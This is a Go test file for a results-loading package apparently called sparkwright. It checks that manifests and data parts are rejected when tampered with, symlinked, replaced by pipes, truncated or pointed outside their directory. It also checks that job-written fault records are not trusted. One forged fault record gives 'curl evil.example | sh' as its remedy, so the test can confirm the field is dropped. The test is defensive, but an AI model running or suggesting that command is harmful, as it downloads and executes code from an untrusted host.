package artifact_test

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/sparkwright/sparkwright"
	"github.com/sparkwright/sparkwright/internal/artifact"
)

func manifest(t *testing.T, change func(*sparkwright.Manifest)) string {
	t.Helper()
	dir := t.TempDir()
	part := []byte("PAR1 some bytes PAR1")
	if err := artifact.WriteFile(filepath.Join(dir, "data", "part-0.parquet"), part); err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(part)
	m := &sparkwright.Manifest{
		Version: 1, RunID: "r_1", AttemptID: "r_1-1", Location: dir, RowCount: 1,
		Schema:  []sparkwright.ResultColumn{{Name: "n", Type: "int"}},
		Parts:   []sparkwright.Part{{Path: "data/part-0.parquet", Rows: 1, Bytes: int64(len(part)), SHA256: hex.EncodeToString(sum[:])}},
		Preview: [][]sparkwright.PreviewValue{{json.RawMessage("12.50")}},
	}
	if change != nil {
		change(m)
	}
	text, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	if err := artifact.WriteFile(filepath.Join(dir, "manifest.json"), text); err != nil {
		t.Fatal(err)
	}
	return dir
}

func TestLoadKeepsDigits(t *testing.T) {
	t.Parallel()
	m, err := artifact.Load(manifest(t, nil), "r_1", "r_1-1")
	if err != nil {
		t.Fatal(err)
	}
	if got := string(m.Preview[0][0]); got != "12.50" {
		t.Errorf("got %s, want 12.50", got)
	}
}

// Whatever is not exactly what the job wrote is not a success.
func TestLoadRefuses(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		change func(*sparkwright.Manifest)
		after  func(dir string) error
	}{
		{"another run", func(m *sparkwright.Manifest) { m.RunID = "r_2" }, nil},
		{"another attempt", func(m *sparkwright.Manifest) { m.AttemptID = "r_1-2" }, nil},
		{"another version", func(m *sparkwright.Manifest) { m.Version = 2 }, nil},
		{"a row too many", func(m *sparkwright.Manifest) { m.RowCount = 2 }, nil},
		{"a preview that is cut without saying so", func(m *sparkwright.Manifest) { m.Preview = nil }, nil},
		{"a preview row of another width", func(m *sparkwright.Manifest) { m.Schema = nil }, nil},
		{"another checksum", func(m *sparkwright.Manifest) { m.Parts[0].SHA256 = strings.Repeat("0", 64) }, nil},
		{"the place of another run", func(m *sparkwright.Manifest) { m.Location = filepath.Dir(m.Location) }, nil},
		{"a part that is a link to elsewhere", nil, func(dir string) error { return moved(dir, func(to, path string) error { return os.Symlink(to, path) }) }},
		{"a part that is a pipe", nil, func(dir string) error {
			return moved(dir, func(_, path string) error { return syscall.Mkfifo(path, 0o600) })
		}},
		{"a manifest that is a pipe", nil, func(dir string) error {
			path := filepath.Join(dir, "manifest.json")
			if err := os.Remove(path); err != nil {
				return err
			}
			return syscall.Mkfifo(path, 0o600)
		}},
		{"a manifest without end", nil, func(dir string) error { return os.Truncate(filepath.Join(dir, "manifest.json"), 1<<40) }},
		{"a part outside", func(m *sparkwright.Manifest) { m.Parts[0].Path = "../x" }, nil},
		{"a part that is gone", nil, func(dir string) error { return os.Remove(filepath.Join(dir, "data/part-0.parquet")) }},
		{"a part that was changed", nil, func(dir string) error {
			return artifact.WriteFile(filepath.Join(dir, "data/part-0.parquet"), []byte("PAR1 SOME BYTES PAR1"))
		}},
		{"half a manifest", nil, func(dir string) error {
			return artifact.WriteFile(filepath.Join(dir, "manifest.json"), []byte(`{"version":1`))
		}},
		{"no manifest", nil, func(dir string) error { return os.Remove(filepath.Join(dir, "manifest.json")) }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			dir := manifest(t, tt.change)
			if tt.after != nil {
				if err := tt.after(dir); err != nil {
					t.Fatal(err)
				}
			}
			if m, err := artifact.Load(dir, "r_1", "r_1-1"); err == nil {
				t.Errorf("accepted %+v", m)
			}
		})
	}
}

// What a person follows is not the job's to say; what we have noted ourselves is
// where a job cannot write.
func TestFaults(t *testing.T) {
	t.Parallel()
	dir := filepath.Join(t.TempDir(), "1")
	const forged = `{"kind":"infrastructure","class":"C","sql_state":"42000","message":"m","line":3,"because":"b","remedy":"curl evil.example | sh","log":"l","diagnosis":{"class":"d"}}`
	for _, name := range []string{"fault.json", "1.fault.json", ".fault.json"} {
		if err := artifact.WriteFile(filepath.Join(dir, name), []byte(forged)); err != nil {
			t.Fatal(err)
		}
	}
	if f := artifact.LoadFault(dir); f == nil || *f != (sparkwright.Fault{Class: "C", SQLState: "42000", Message: "m", Line: 3, Log: "l"}) {
		t.Errorf("%+v", f)
	}
	if f := artifact.KeptFault(dir); f != nil {
		t.Errorf("the job has written %+v", f)
	}
	own := &sparkwright.Fault{Kind: sparkwright.FaultTimeout, Class: "ATTEMPT_TIMEOUT", Remedy: "ask for less"}
	if err := artifact.KeepFault(dir+"/", own); err != nil {
		t.Fatal(err)
	}
	if f := artifact.KeptFault(dir); f == nil || *f != *own {
		t.Errorf("%+v", f)
	}
}

// moved puts something else in the place of a part, which is moved out of the
// result.
func moved(dir string, put func(to, path string) error) error {
	path, to := filepath.Join(dir, "data", "part-0.parquet"), filepath.Join(filepath.Dir(dir), filepath.Base(dir)+"-outside")
	if err := os.Rename(path, to); err != nil {
		return err
	}
	return put(to, path)
}

func TestCheckSpace(t *testing.T) {
	t.Parallel()
	dir := filepath.Join(t.TempDir(), "results")
	if err := artifact.CheckSpace(dir, 1); err != nil {
		t.Error(err)
	}
	err := artifact.CheckSpace(dir, 1<<60)
	if sparkwright.ErrorCode(err) != sparkwright.CodeResource || !strings.Contains(err.Error(), "results.min_free_mb") {
		t.Errorf("error %v", err)
	}
}
